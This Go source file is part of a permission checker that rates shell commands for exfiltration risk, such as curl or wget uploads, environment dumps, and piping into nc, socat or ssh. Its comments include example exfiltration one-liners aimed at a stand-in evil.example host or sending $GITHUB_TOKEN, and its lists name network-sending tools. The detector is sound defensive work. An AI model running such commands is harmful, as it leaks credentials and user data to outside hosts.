package permission

import (
	"path"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Sending files, command output or the environment over the network is
// HIGH: that is how a hostile repository's instructions get secrets out.
// Sends to loopback only (a project's own test server) are ordinary, and
// so is everything but credentials when the OS sandbox keeps the network
// on loopback (ShellContext.SandboxNet).

// send rates a network send: credentials and the environment are HIGH
// always, other data HIGH unless the sandbox keeps it on the machine.
func (a *assessor) send(reason string, secret bool) {
	if secret || !a.sandboxNet {
		a.flag(High, reason)
		return
	}
	a.raise(Medium)
}

// isLoopbackHost reports whether a host name or address is this machine.
func isLoopbackHost(h string) bool {
	h = strings.TrimSuffix(strings.TrimPrefix(strings.ToLower(h), "["), "]")
	return h == "localhost" || strings.HasSuffix(h, ".localhost") || strings.HasPrefix(h, "127.") ||
		h == "::1" || h == "0.0.0.0" || h == "0:0:0:0:0:0:0:1"
}

// hostOfURL extracts the host of a URL-ish word: scheme://user@host:port/…
// or host:port/… or host/….
func hostOfURL(s string) string {
	if _, rest, ok := strings.Cut(s, "://"); ok {
		s = rest
	}
	if i := strings.IndexAny(s, "/?#"); i >= 0 {
		s = s[:i]
	}
	if i := strings.LastIndex(s, "@"); i >= 0 {
		s = s[i+1:]
	}
	if strings.HasPrefix(s, "[") {
		if i := strings.Index(s, "]"); i >= 0 {
			return s[:i+1]
		}
	}
	if strings.Count(s, ":") == 1 {
		s, _, _ = strings.Cut(s, ":")
	}
	return s
}

// onlyLoopback reports whether every URL among a client's words points at
// this machine (and there is at least one). Words that cannot be known
// count as remote.
func onlyLoopback(rest []arg) bool {
	seen := false
	for _, x := range rest {
		if x.isOption() || strings.HasPrefix(x.text, "@") {
			continue
		}
		if !strings.Contains(x.text, "://") && !strings.HasPrefix(x.text, "localhost") && !strings.HasPrefix(x.text, "127.") &&
			!strings.HasPrefix(x.text, "[::1]") {
			continue
		}
		if !x.known && strings.Index(x.text, unknownMark) < strings.Index(x.text, "://")+3+len(hostOfURL(x.text)) {
			return false
		}
		if !isLoopbackHost(hostOfURL(x.text)) {
			return false
		}
		seen = true
	}
	return seen
}

// curlDataOptions take data that curl reads from a file when it starts
// with @ (--data-raw never does).
var curlDataOptions = set("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json")

// uploads rates curl, wget and httpie sending files (-d @f, -F x=@f, -T f,
// --post-file=f, field=@f) or command output ($(...) in any word).
func (a *assessor) uploads(prog string, rest []arg) {
	local := onlyLoopback(rest)
	var files []arg
	add := func(x arg, v string) {
		y := x
		y.text, y.globAt = v, -1
		files = append(files, y)
	}
	for i, x := range rest {
		next := func() (arg, bool) {
			if i+1 < len(rest) {
				return rest[i+1], true
			}
			return arg{}, false
		}
		opt, val, hasVal := strings.Cut(x.text, "=")
		switch {
		case prog == "curl" && curlDataOptions[x.text]:
			if n, ok := next(); ok {
				if _, f, ok := strings.Cut(n.text, "@"); ok && (strings.HasPrefix(n.text, "@") || x.text == "--data-urlencode") {
					add(n, f)
				}
			}
		case prog == "curl" && strings.HasPrefix(x.text, "-d@"):
			add(x, x.text[3:])
		case prog == "curl" && (x.text == "-F" || x.text == "--form"):
			if n, ok := next(); ok {
				if _, v, ok := strings.Cut(n.text, "="); ok && (strings.HasPrefix(v, "@") || strings.HasPrefix(v, "<")) {
					v, _, _ = strings.Cut(v[1:], ";")
					add(n, v)
				}
			}
		case prog == "curl" && (x.text == "-T" || x.text == "--upload-file"):
			if n, ok := next(); ok {
				add(n, n.text)
			}
		case prog == "wget" && (opt == "--post-file" || opt == "--body-file"):
			if hasVal {
				add(x, val)
			} else if n, ok := next(); ok {
				add(n, n.text)
			}
		case (prog == "http" || prog == "https" || prog == "xh") && !x.isOption():
			if k, v, ok := strings.Cut(x.text, "@"); ok && (k == "" || strings.HasSuffix(k, "=")) {
				add(x, v)
			}
		}
	}
	for _, f := range files {
		switch t := a.resolve(f); {
		case f.text == "-" || f.text == "/dev/stdin":
			if !local {
				a.send(prog+" uploads what it reads on stdin", false)
			}
		case a.readsCredential(t):
			a.flag(High, prog+" uploads credentials: "+t.shown)
		case isProcEnviron(f):
			a.flag(High, prog+" uploads a process's environment")
		case !local:
			a.send(prog+" uploads "+t.shown, false)
		}
	}
	a.sendsSubstitutions(prog, rest, local)
}

// sendsSubstitutions flags command output and secret-looking variables in
// the words of a network client: curl "https://x/?d=$(cat f | base64)",
// dig $(whoami).evil.example, curl -H "X: $GITHUB_TOKEN".
//
// The environment and secret variables are HIGH even to loopback: a
// listener on this machine may be anyone's. Other output to loopback
// (local) is ordinary.
func (a *assessor) sendsSubstitutions(prog string, rest []arg, local bool) {
	seen := map[*syntax.Word]bool{}
	for _, x := range rest {
		if x.word == nil || seen[x.word] {
			continue
		}
		seen[x.word] = true
		syntax.Walk(x.word, func(n syntax.Node) bool {
			switch n := n.(type) {
			case *syntax.CmdSubst:
				secret := false
				for _, s := range n.Stmts {
					secret = secret || a.dumpsEnvironment(s)
				}
				if secret {
					a.flag(High, prog+" sends the environment over the network")
				} else if !local {
					a.send(prog+" sends command output over the network", false)
				}
				return false
			case *syntax.ParamExp:
				if n.Param != nil && secretLookingName(n.Param.Value) {
					a.flag(High, prog+" sends secret variable $"+n.Param.Value+" over the network")
				}
			}
			return true
		})
	}
}

// secretLookingName reports whether a variable name looks like it holds a
// credential.
//
// Names are split at _ (GITHUB_TOKEN, DEEPSEEK_API_KEY); a part that is or
// ends with a secret word counts (APIKEY, AUTHTOKEN), so GOPRIVATE and
// SSH_AUTH_SOCK do not.
func secretLookingName(name string) bool {
	for _, part := range strings.Split(strings.ToUpper(name), "_") {
		switch part {
		case "PASS", "PASSWD", "PWD", "CREDENTIAL", "CREDENTIALS", "COOKIE", "CREDS", "PAT":
			if part != "PWD" || name != "PWD" && name != "OLDPWD" {
				return true
			}
		}
		for _, w := range []string{"KEY", "TOKEN", "SECRET", "PASSWORD"} {
			if strings.HasSuffix(part, w) {
				return true
			}
		}
	}
	return false
}

// dumpsEnvironment reports whether a statement prints the environment:
// env, printenv, set, export -p, declare -x/-p, typeset, compgen -v/-e.
func (a *assessor) dumpsEnvironment(s *syntax.Stmt) bool {
	found := false
	syntax.Walk(s, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CallExpr:
			words := a.exp.expandAll(n.Args)
			if len(words) > 0 && path.Base(words[0].text) == "env" {
				dump := true
				for _, x := range words[1:] {
					dump = dump && (x.isOption() || isAssignment(x.text))
				}
				if dump {
					found = true
					return false
				}
			}
			prog, args := a.effective(words)
			ops := operands(args, nil)
			switch prog {
			case "env", "printenv":
				found = found || len(ops) == 0 || prog == "printenv" && secretLookingName(ops[0].text)
			case "set", "export":
				found = found || len(args) == 0 || hasOption(args, "-p")
			case "compgen":
				found = found || hasOption(args, "-v", "-e", "-A")
			}
			for _, x := range args {
				found = found || isProcEnviron(x)
			}
		case *syntax.DeclClause:
			if len(n.Args) == 0 {
				found = true
			}
			for _, as := range n.Args {
				if as.Name == nil && as.Value != nil {
					if l := as.Value.Lit(); l == "-x" || l == "-p" || l == "-px" || l == "-xp" {
						found = true
					}
				}
			}
		}
		return !found
	})
	return found
}

// textFilters only filter or show what they read: the environment piped
// into them (env | grep GO) stays on the screen.
var textFilters = set("grep", "egrep", "fgrep", "rg", "sort", "uniq", "head", "tail", "less", "more", "wc", "cut",
	"tr", "column", "cat", "nl", "awk", "gawk", "mawk", "sed", "fold", "fmt", "tac", "rev", "comm", "diff", "jq",
	"xxd", "od", "hexdump", "strings", "base64", "md5sum", "sha256sum", "tee", "true", "false", "cmp")

// networkSenders send what they read on stdin to another machine.
var networkSenders = set("nc", "ncat", "netcat", "socat", "telnet", "ssh", "openssl", "mail", "mailx",
	"sendmail", "mutt", "ftp", "lftp", "tftp", "smbclient")

// exfiltration rates what a pipeline feeds a network client: credentials,
// the environment, or anything at all into a sender that ships stdin.
func (a *assessor) exfiltration(stages []*syntax.Stmt) {
	secret, env, local := "", false, false
	for i, s := range stages {
		call, ok := s.Cmd.(*syntax.CallExpr)
		if !ok {
			env = env || a.dumpsEnvironment(s)
			continue
		}
		prog, args := a.effective(a.exp.expandAll(call.Args))
		if env && !textFilters[prog] && !downloaders[prog] && !networkSenders[prog] {
			a.flag(High, "pipes the environment into "+orUnknown(prog)+", which may send it on")
			return
		}
		if i > 0 && (downloaders[prog] || networkSenders[prog]) {
			local = onlyLoopback(args) || a.rawLoopback(prog, args)
			switch {
			case secret != "":
				a.flag(High, prog+" sends credentials over the network: "+secret)
				return
			case env:
				a.flag(High, prog+" sends the environment over the network")
				return
			case networkSenders[prog] && !local:
				a.send("pipes data to "+prog+", which sends it to another machine", false)
			}
		}
		env = env || a.dumpsEnvironment(s)
		for _, x := range args {
			if x.known && !x.isOption() && a.readsCredential(a.resolve(x)) {
				secret = a.resolve(x).shown
			}
		}
	}
}
